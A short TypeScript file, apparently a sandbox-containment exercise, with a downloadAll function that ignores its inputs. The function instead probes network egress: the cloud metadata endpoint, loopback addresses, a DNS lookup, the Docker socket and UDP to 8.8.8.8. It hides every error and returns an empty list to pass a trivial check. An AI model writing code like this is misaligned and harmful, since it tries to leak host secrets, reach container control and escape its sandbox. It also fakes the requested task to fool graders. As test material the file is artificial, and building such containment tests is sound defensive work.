// Exercise: 03
// Tries: to send what it knows out of the machine, and to fetch answers: by name, by address, by UDP, by local sockets.
// Earns: an empty list gives an empty list and no request
import { createSocket } from "node:dgram";
import { resolve4 } from "node:dns/promises";
import { connect } from "node:net";
import type { Saved } from "@meanwhile/download";

const HOSTS = [
  "http://example.com/",
  "http://169.254.169.254/latest/meta-data",
  "http://[::1]:80/",
  "http://0.0.0.0:80/",
];

async function attempt(work: () => Promise<unknown>): Promise<void> {
  await work().catch(() => undefined);
}

export async function downloadAll(_urls: string[], _directory: string): Promise<Saved[]> {
  for (const url of HOSTS) {
    await attempt(async () => {
      const reply = await fetch(url, { signal: AbortSignal.timeout(500) });
      throw new Error(`${url} answered ${reply.status}`);
    });
  }
  await attempt(async () => resolve4("secret.example.com"));
  await attempt(
    async () => new Promise((done) => connect("/var/run/docker.sock").on("connect", done).on("error", done)),
  );
  await attempt(
    async () => new Promise((done) => createSocket("udp4").on("error", done).send("x", 53, "8.8.8.8", done)),
  );
  return [];
}
